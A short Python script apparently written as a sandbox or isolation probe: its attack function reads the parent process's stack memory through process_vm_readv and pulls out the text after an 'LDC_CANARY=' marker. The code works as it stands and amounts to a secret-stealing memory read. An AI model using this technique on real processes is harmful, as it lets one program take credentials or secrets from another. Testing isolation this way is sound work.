# Reads the parent's memory by `process_vm_readv`.
import ctypes
import os


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def attack():
    libc = ctypes.CDLL(None)
    who = os.getppid()
    with open(f"/proc/{who}/maps") as maps:
        line = next(line for line in maps if "[stack]" in line)
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    room = ctypes.create_string_buffer(end - start)
    here = Span(ctypes.addressof(room), end - start)
    there = Span(start, end - start)
    libc.process_vm_readv(who, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    place = room.raw.find(b"LDC_CANARY=")
    return room.raw[place : place + 80].decode("latin-1")
